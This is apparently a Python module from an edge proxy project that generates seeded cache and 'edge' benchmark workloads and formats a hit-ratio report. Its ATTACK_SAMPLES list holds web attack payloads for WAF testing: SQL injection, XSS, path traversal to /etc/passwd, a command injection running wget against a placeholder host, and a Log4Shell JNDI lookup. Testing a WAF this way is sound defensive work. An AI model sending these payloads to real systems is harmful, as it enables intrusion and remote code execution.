"""The short mixed workloads behind ``edgenode demo`` and the proxy benchmark.

Two mixes, both seeded, sent through the node by the load generator:

* the cache mix (``demo_paths``): Zipf-popular objects of mixed sizes on the simulated
  origin, a few images and a few ``no-store`` objects.  ``benchmarks/bench_proxy.py``
  measures hit ratios with it, so it stays as it is.
* the edge mix (``edge_streams``, ``run_demo_workload(..., edge=True)``): the cache mix's
  objects plus what the default chain exists for: attack samples for the WAF, image
  transforms (explicit formats, and ``format=auto`` under three browser-like Accept
  headers, each on its own connection because the load generator sends one header
  set per run), and the routing filter's health route.

The report shows what the cache did: hit ratio from X-Cache / Cache-Status, and the
origin requests actually saved, read from the origin's own ``/__stats`` counter before
and after.
"""

from __future__ import annotations

import asyncio
import bisect
import itertools
import json
import math
import random
from collections import Counter
from dataclasses import dataclass, field
from typing import Iterator
from urllib.parse import urlsplit

from edgenode.bench.loadgen import LoadResult, percentiles, run_load

__all__ = ["demo_paths", "edge_paths", "edge_streams", "EdgeTally", "Stream", "run_demo_workload",
           "format_demo_report", "format_table", "classify_cache", "ATTACK_SAMPLES", "IMAGE_SOURCES",
           "ACCEPT_PROFILES", "HEALTH_PATH"]

#: (share of objects, size) of the object population
_SIZE_MIX = ((0.55, "1k"), (0.25, "10k"), (0.15, "100k"), (0.05, "1m"))


def _pick_size(rng: random.Random) -> str:
    roll, acc = rng.random(), 0.0
    for share, size in _SIZE_MIX:
        acc += share
        if roll < acc:
            break
    return size


def _object_path(i: int, rng: random.Random) -> str:
    if i % 20 == 7:
        return f"/image/demo-{i}.jpg?w=640&h=480"
    if i % 25 == 3:
        return f"/obj/demo-{i}?size=1k&cc=no-store"
    return f"/obj/demo-{i}?size={_pick_size(rng)}&ttl=300&keys=demo"


def _zipf_cum(objects: int, zipf_s: float) -> list[float]:
    """Cumulative Zipf(``zipf_s``) weights of ranks 1..objects."""
    return list(itertools.accumulate(1.0 / rank**zipf_s for rank in range(1, objects + 1)))


def _weighted_index(cum: list[float], rng: random.Random) -> int:
    return min(bisect.bisect_left(cum, rng.random() * cum[-1]), len(cum) - 1)


def demo_paths(objects: int = 200, seed: int = 1, zipf_s: float = 1.0) -> Iterator[str]:
    """An endless, seeded stream of paths whose popularity follows Zipf(``zipf_s``)."""
    rng = random.Random(seed)
    catalogue = [_object_path(i, rng) for i in range(objects)]
    cum = _zipf_cum(objects, zipf_s)
    while True:
        yield catalogue[_weighted_index(cum, rng)]


# --- the edge mix -------------------------------------------------------------------
#: Generic attack samples (family, request target), each blocked by the WAF at its
#: defaults (paranoia 1, threshold 5).  Documentation-only hosts and addresses.
ATTACK_SAMPLES: tuple[tuple[str, str], ...] = (
    ("sqli", "/obj/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
    ("sqli", "/obj/login?user=admin%27%20OR%20%271%27=%271"),
    ("xss", "/obj/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("xss", "/obj/profile?name=%3Cimg%20src=x%20onerror=alert(1)%3E"),
    ("traversal", "/obj/download?file=../../../../etc/passwd"),
    ("traversal", "/static/..%2f..%2f..%2fetc/passwd"),
    ("rce", "/obj/ping?host=127.0.0.1;wget%20http://203.0.113.7/x.sh"),
    ("rce", "/obj/ping?host=127.0.0.1%7C%7C$(whoami)"),
    ("log4shell", "/obj/api?x=$%7Bjndi:ldap://attacker.example/a%7D"),
)
#: the routing filter's fixed reply in the default config (edgenode/default.toml)
HEALTH_PATH = "/edge-health"
#: source photos: the simulated origin's default render, a 2000x1500 JPEG
IMAGE_SOURCES = ("/image/photo-1.jpg", "/image/photo-2.jpg", "/image/photo-3.jpg")
#: explicit-format variants, in the image filter's path and query schemes (no Vary)
_IMAGE_VARIANTS = ("/img/w=400,f=webp{src}", "/img/w=800,h=600,fit=cover,f=avif{src}",
                   "/img{src}?w=320&f=webp", "/img{src}?w=1280&q=70&f=jpeg")
#: format=auto variants (``f`` defaults to auto): one cached variant per normalised Accept
_AUTO_VARIANTS = ("/img/w=640,f=auto{src}", "/img{src}?width=480")
#: (label, Accept) of the browsers the format=auto streams pretend to be
ACCEPT_PROFILES = (
    ("avif", "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"),
    ("webp", "image/webp,*/*"),
    ("legacy", "image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5"),
)
#: share of requests of each kind in the main stream of the edge mix
_EDGE_SHARES = (("object", 0.87), ("no-store", 0.03), ("attack", 0.03), ("image", 0.05),
                ("health", 0.02))
#: share of all requests sent by each format=auto (Accept profile) stream
AUTO_SHARE = 0.02
#: requests/s of each format=auto stream in a timed run (a count splits by AUTO_SHARE)
AUTO_RATE = 10.0


@dataclass
class EdgeTally:
    """What the edge mix handed to the load generator (every path taken is sent)."""

    kinds: Counter = field(default_factory=Counter)
    attacks: Counter = field(default_factory=Counter)


@dataclass
class Stream:
    """One load-generator run: its paths, extra headers and connections."""

    name: str
    paths: Iterator[str]
    connections: int
    headers: dict[str, str] = field(default_factory=dict)
    sample: tuple[str, ...] = ("x-cache", "cache-status")


def edge_paths(tally: EdgeTally, objects: int = 200, seed: int = 1,
               zipf_s: float = 1.0) -> Iterator[str]:
    """The main stream of the edge mix (seeded, endless): Zipf-popular cacheable objects
    of mixed sizes, ``no-store`` objects, attack samples, explicit-format image
    transforms and health checks, in the shares of ``_EDGE_SHARES``."""
    rng = random.Random(seed)
    catalogue = [f"/obj/demo-{i}?size={_pick_size(rng)}&ttl=300&keys=demo" for i in range(objects)]
    cum = _zipf_cum(objects, zipf_s)
    images = [v.format(src=src) for src in IMAGE_SOURCES for v in _IMAGE_VARIANTS]
    kinds = [kind for kind, _ in _EDGE_SHARES]
    kind_cum = list(itertools.accumulate(share for _, share in _EDGE_SHARES))
    while True:
        kind = kinds[_weighted_index(kind_cum, rng)]
        if kind == "object":
            path = catalogue[_weighted_index(cum, rng)]
        elif kind == "no-store":
            path = f"/obj/live-{rng.randrange(8)}?size=4k&cc=no-store"
        elif kind == "attack":
            family, path = ATTACK_SAMPLES[rng.randrange(len(ATTACK_SAMPLES))]
            tally.attacks[family] += 1
        elif kind == "image":
            path = images[rng.randrange(len(images))]
        else:
            path = HEALTH_PATH
        tally.kinds[kind] += 1
        yield path


def _auto_image_paths(tally: EdgeTally, seed: int) -> Iterator[str]:
    rng = random.Random(seed)
    images = [v.format(src=src) for src in IMAGE_SOURCES for v in _AUTO_VARIANTS]
    while True:
        tally.kinds["image-auto"] += 1
        yield images[rng.randrange(len(images))]


def edge_streams(tally: EdgeTally, connections: int = 8, objects: int = 200,
                 seed: int = 1) -> list[Stream]:
    """The edge mix: the main stream on ``connections`` connections, then one
    connection per Accept profile asking for format=auto images."""
    streams = [Stream("main", edge_paths(tally, objects, seed), connections)]
    for i, (label, accept) in enumerate(ACCEPT_PROFILES, 1):
        streams.append(Stream(f"auto-{label}", _auto_image_paths(tally, seed * 1000 + i), 1,
                              {"Accept": accept}, ("x-cache", "cache-status", "content-type")))
    return streams


def _merge(results: list[LoadResult]) -> LoadResult:
    """One LoadResult of concurrent runs (durations overlap: the longest counts)."""
    out = LoadResult(generator=results[0].generator)
    for r in results:
        out.duration_s = max(out.duration_s, r.duration_s)
        out.latencies_us.extend(r.latencies_us)
        out.status.update(r.status)
        out.errors.update(r.errors)
        out.bytes_received += r.bytes_received
        for name, values in r.headers.items():
            out.headers.setdefault(name, Counter()).update(values)
    return out


def classify_cache(x_cache: str | None, cache_status: str | None) -> str | None:
    """"hit", "miss" or None (no cache header) from X-Cache or RFC 9211 Cache-Status."""
    if x_cache:
        return "hit" if x_cache.strip().upper().startswith(("HIT", "STALE")) else "miss"
    if cache_status:
        # The last entry is the cache closest to the client, i.e. this node.
        params = [p.strip().lower() for p in cache_status.split(",")[-1].split(";")[1:]]
        return "hit" if "hit" in params else "miss"
    return None


async def _origin_total(origin_url: str) -> int | None:
    """The origin's request counter, over a raw socket (no client library needed)."""
    parts = urlsplit(origin_url)
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(parts.hostname, parts.port or 80), 5.0)
    except (OSError, asyncio.TimeoutError):
        return None
    try:
        writer.write(f"GET /__stats HTTP/1.1\r\nHost: {parts.netloc}\r\nConnection: close\r\n\r\n".encode())
        raw = await asyncio.wait_for(reader.read(), 5.0)
    except (OSError, asyncio.TimeoutError):
        return None
    finally:
        writer.close()
    head, _, body = raw.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 200"):
        return None
    try:
        return int(json.loads(body)["total"])
    except (ValueError, KeyError, TypeError):
        return None


def _hit_counts(load: LoadResult) -> tuple[int, int, int]:
    hits = misses = 0
    for header in ("x-cache", "cache-status"):
        for value, n in load.headers.get(header, {}).items():
            kind = classify_cache(value, None) if header == "x-cache" else classify_cache(None, value)
            if kind == "hit":
                hits += n
            else:
                misses += n
        if hits or misses:
            break  # X-Cache found: do not count the same responses twice
    return hits, misses, load.requests - hits - misses


def _budgets(streams: list[Stream], count: int) -> list[int]:
    """Split a request count: AUTO_SHARE to each extra stream, the rest to the main one."""
    extra = [int(count * AUTO_SHARE) for _ in streams[1:]]
    return [count - sum(extra)] + extra


async def _run_streams(host: str, port: int, streams: list[Stream], bound: float | int,
                       timeout: float) -> tuple[LoadResult, dict[str, dict[str, int]]]:
    """Run the streams concurrently; the merged result and each extra stream's
    Content-Types."""
    runs = []
    if isinstance(bound, int):
        for stream, n in zip(streams, _budgets(streams, bound)):
            if n:
                runs.append((stream, {"requests": n}))
    else:
        runs = [(s, {"duration": bound} if i == 0 else {"duration": bound, "rate": AUTO_RATE})
                for i, s in enumerate(streams)]
    loads = await asyncio.gather(*(
        run_load(host, port, s.paths, connections=s.connections, headers=s.headers,
                 sample_headers=s.sample, timeout=timeout, **kw) for s, kw in runs))
    types = {s.name: dict(load.headers.pop("content-type", {}))
             for (s, _), load in zip(runs, loads) if "content-type" in s.sample}
    return _merge(list(loads)), types


async def run_demo_workload(
    node_url: str,
    duration_or_count: float | int,
    *,
    origin_url: str | None = None,
    connections: int = 8,
    objects: int = 200,
    seed: int = 1,
    timeout: float = 5.0,
    edge: bool = False,
) -> dict:
    """Run the cache mix (or with ``edge``, the edge mix) against ``node_url``.

    ``duration_or_count``: a float is seconds, an int is a request count (with
    ``edge``, split as in ``_budgets``; the same seed sends the same requests).
    ``origin_url`` (the simulated origin) lets the report count real origin requests.
    A response slower than ``timeout`` seconds counts as a "timeout" error, so a stuck
    node shows up in the report instead of stalling the demo.
    """
    parts = urlsplit(node_url)
    if parts.scheme != "http" or not parts.hostname:
        raise ValueError(f"node_url: expected http://host:port, got {node_url!r}")
    host, port = parts.hostname, parts.port or 80
    before = await _origin_total(origin_url) if origin_url else None
    tally = EdgeTally()
    auto_types: dict[str, dict[str, int]] = {}
    if edge:
        load, auto_types = await _run_streams(host, port, edge_streams(tally, connections, objects, seed),
                                              duration_or_count, timeout)
    else:
        bound: dict = ({"requests": duration_or_count} if isinstance(duration_or_count, int)
                       else {"duration": float(duration_or_count)})
        load = await run_load(host, port, demo_paths(objects, seed), connections=connections,
                              sample_headers=("x-cache", "cache-status"), timeout=timeout, **bound)
    after = await _origin_total(origin_url) if origin_url else None
    hits, misses, unknown = _hit_counts(load)
    origin_requests = after - before if before is not None and after is not None else None
    classified = hits + misses
    lat = percentiles(load.latencies_us, (50, 90, 99))
    result = {
        "generator": load.generator,
        "requests": load.requests,
        "duration_s": round(load.duration_s, 3),
        "rps": round(load.rps, 1),
        "hits": hits,
        "misses": misses,
        "unclassified": unknown,
        "hit_ratio": round(hits / classified, 4) if classified else None,
        "origin_requests": origin_requests,
        "origin_requests_saved": (max(0, load.requests - origin_requests)
                                  if origin_requests is not None else None),
        "latency_ms": {k: (round(v / 1000.0, 3) if not math.isnan(v) else None) for k, v in lat.items()},
        "status": {str(k): v for k, v in sorted(load.status.items())},
        "errors": dict(load.errors),
        "bytes_received": load.bytes_received,
    }
    if edge:
        result["mix"] = dict(tally.kinds)
        result["attacks_sent"] = dict(tally.attacks)
        result["auto_formats"] = auto_types
    return result


def format_demo_report(result: dict) -> str:
    """A small aligned table of ``run_demo_workload``'s result."""
    def show(value: object, fmt: str = "{}") -> str:
        return "n/a" if value is None else fmt.format(value)

    lat = result.get("latency_ms", {})
    saved = result.get("origin_requests_saved")
    saved_share = (saved / result["requests"]) if saved is not None and result.get("requests") else None
    rows = [
        ("requests", show(result.get("requests"))),
        ("duration", show(result.get("duration_s"), "{:.2f} s")),
        ("throughput", show(result.get("rps"), "{:,.0f} req/s")),
        ("cache hits / misses", f"{result.get('hits', 0)} / {result.get('misses', 0)}"),
        ("hit ratio", show(result.get("hit_ratio"), "{:.1%}")),
        ("origin requests", show(result.get("origin_requests"))),
        ("origin requests saved", show(saved) + (f" ({saved_share:.1%})" if saved_share is not None else "")),
        ("latency p50 / p90 / p99", " / ".join(show(lat.get(k), "{:.2f}") for k in ("p50", "p90", "p99")) + " ms"),
        ("status codes", ", ".join(f"{k}: {v}" for k, v in result.get("status", {}).items()) or "none"),
        ("errors", ", ".join(f"{k}: {v}" for k, v in result.get("errors", {}).items()) or "none"),
        ("load generator", show(result.get("generator"))),
    ]
    if "mix" in result:
        rows.insert(1, ("request mix", ", ".join(f"{k} {v}" for k, v in sorted(
            result["mix"].items(), key=lambda kv: -kv[1]))))
        if result.get("auto_formats"):
            rows.insert(2, ("format=auto by Accept", "; ".join(
                f"{name.removeprefix('auto-')}: " + ", ".join(f"{t} {n}" for t, n in sorted(types.items()))
                for name, types in result["auto_formats"].items())))
    return format_table("edgenode demo workload", rows)


def format_table(title: str, rows: list[tuple[str, str]]) -> str:
    """``title`` over aligned ``name  value`` rows between rules."""
    width = max(len(name) for name, _ in rows)
    line = "-" * (width + 2 + max(len(v) for _, v in rows))
    return "\n".join([title, line] + [f"{name.ljust(width)}  {value}" for name, value in rows] + [line])
